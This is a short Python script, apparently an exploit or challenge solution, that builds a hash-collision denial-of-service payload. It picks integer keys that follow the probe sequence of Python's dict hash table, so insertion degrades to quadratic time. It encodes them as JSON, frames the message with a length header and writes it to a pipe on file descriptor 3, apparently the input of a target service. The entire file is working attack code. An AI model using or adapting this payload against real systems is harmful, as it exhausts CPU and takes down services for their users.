# Forges a dict whose integer keys all walk along one chain of the hash table, without equal hashes.
import os, struct, json

BITS = 19
size = 1 << BITS


def chain(start, n):
    i = start
    for _ in range(n):
        yield i
        i = (5 * i + 1) & (size - 1)


def f(x):
    fill = list(chain(1, int(size * 0.5)))
    extra = [(j << BITS) + 1 for j in range(1, 80000)]
    text = ('{"dict":[' + ",".join(f"[{k},1]" for k in fill + extra) + "]}").encode()
    os.write(2, b"")
    data = struct.pack(">cI", b"R", len(text)) + text
    view = memoryview(data)
    while view:
        view = view[os.write(3, view) :]
    os._exit(0)
